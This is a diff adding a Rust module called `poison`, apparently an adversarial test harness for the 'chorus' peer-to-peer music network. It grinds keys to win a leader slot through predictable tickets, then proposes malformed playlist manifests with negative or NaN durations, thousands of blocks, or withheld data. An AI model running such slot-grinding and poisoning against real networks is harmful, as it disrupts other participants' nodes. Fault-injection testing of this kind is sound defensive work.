@@ -1,0 +1,114 @@
+//! `poison`: win a chosen slot with a ground identity and propose a hostile manifest.
+
+use std::net::SocketAddr;
+use std::path::PathBuf;
+
+use anyhow::{Context, Result};
+use chorus::node::{NodeConfig, Start};
+use chorus_consensus::{Hash32, SlotContext, TrackRef, ticket};
+use chorus_media::ingest::Library;
+use chorus_media::player::SinkSpec;
+use libp2p_identity::Keypair;
+use tokio_util::sync::CancellationToken;
+
+use crate::{Poison, hex};
+
+/// A key whose ticket for `slot` is below 2^64 / 4096: it beats a handful of honest nodes
+/// with near certainty (protocol 1's tickets are known to all in advance).
+fn grind(network_id: Hash32, slot: u64) -> (Keypair, u64, u64) {
+    let ctx = SlotContext::detached(network_id, slot);
+    let mut tries = 0;
+    loop {
+        tries += 1;
+        let key = Keypair::generate_ed25519();
+        let t = ticket(&ctx, &key.public().to_peer_id());
+        if t < u64::MAX / 4096 {
+            return (key, t, tries);
+        }
+    }
+}
+
+/// A manifest in the node's own format, then spoiled as `poison` says.
+fn hostile_manifest(poison: Poison, duration_ms: u64) -> (Vec<u8>, u64) {
+    let segments = duration_ms.div_ceil(6000).max(1);
+    let listed = match poison {
+        Poison::ManyBlocks => 3000,
+        _ => segments,
+    };
+    let mut text = String::from(
+        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:6\n#EXT-X-MEDIA-SEQUENCE:0\n\
+         #EXT-X-PLAYLIST-TYPE:VOD\n#EXT-X-INDEPENDENT-SEGMENTS\n",
+    );
+    for i in 0..listed {
+        let extinf = match (poison, i) {
+            (Poison::NegativeExtinf, 0) => "-1".to_owned(),
+            (Poison::NanExtinf, 0) => "NaN".to_owned(),
+            _ => "5.973333".to_owned(),
+        };
+        let id = Hash32::digest(format!("evil block {i}").as_bytes());
+        text.push_str(&format!("#EXTINF:{extinf},\n{}\n", hex(&id)));
+    }
+    text.push_str("#EXT-X-CHORUS-AUDIO:PRIMING=1024,PADDING=0\n#EXT-X-ENDLIST\n");
+    (text.into_bytes(), segments)
+}
+
+pub(crate) async fn poison(
+    data_dir: PathBuf,
+    network: &str,
+    peer: &str,
+    slot: u64,
+    poison: Poison,
+    duration_ms: u64,
+) -> Result<()> {
+    let network_id: Hash32 = network.parse().context("--network is 64 hex digits")?;
+    std::fs::create_dir_all(&data_dir)
+        .with_context(|| format!("cannot create {}", data_dir.display()))?;
+    let (key, t, tries) = grind(network_id, slot);
+    println!(
+        "ground identity {} with ticket {t} for slot {slot} in {tries} tries",
+        key.public().to_peer_id()
+    );
+    chorus::state::save_identity(&data_dir, &key)?;
+
+    let (bytes, segments) = hostile_manifest(poison, duration_ms);
+    let manifest_id = Hash32::digest(&bytes);
+    let lib = Library::open(&data_dir).context("cannot open the attacker's store")?;
+    if !matches!(poison, Poison::Withhold) {
+        lib.store
+            .put_with_id(manifest_id, &bytes)
+            .context("cannot store the hostile manifest")?;
+    }
+    let track = TrackRef {
+        track_hash: Hash32::digest(format!("evil track {slot}").as_bytes()),
+        manifest_id,
+        duration_ms,
+        segment_count: segments,
+        title: "Evil".to_owned(),
+        artist: "Attacker".to_owned(),
+        album: String::new(),
+        loudness_lufs: None,
+    };
+    println!(
+        "proposing track {} manifest {}",
+        hex(&track.track_hash),
+        hex(&manifest_id)
+    );
+    let config = NodeConfig {
+        data_dir: data_dir.clone(),
+        config_dir: data_dir.join("config"),
+        network: Some(network_id),
+        peers: vec![peer.parse().context("--peer is a multiaddr")?],
+        listen: vec!["/ip4/127.0.0.1/tcp/0".parse().expect("a valid multiaddr")],
+        mdns: false,
+        http_listen: SocketAddr::from(([127, 0, 0, 1], 0)),
+        store_budget_bytes: 1 << 30,
+        clock_skew_ms: 0,
+        audio: SinkSpec::Null,
+        volume: 0.0,
+        muted: true,
+        corrupt_blocks: false,
+        garbage: false,
+    };
+    let shutdown = CancellationToken::new();
+    chorus::node::run(config, key, vec![track], Start::Join, shutdown).await
+}
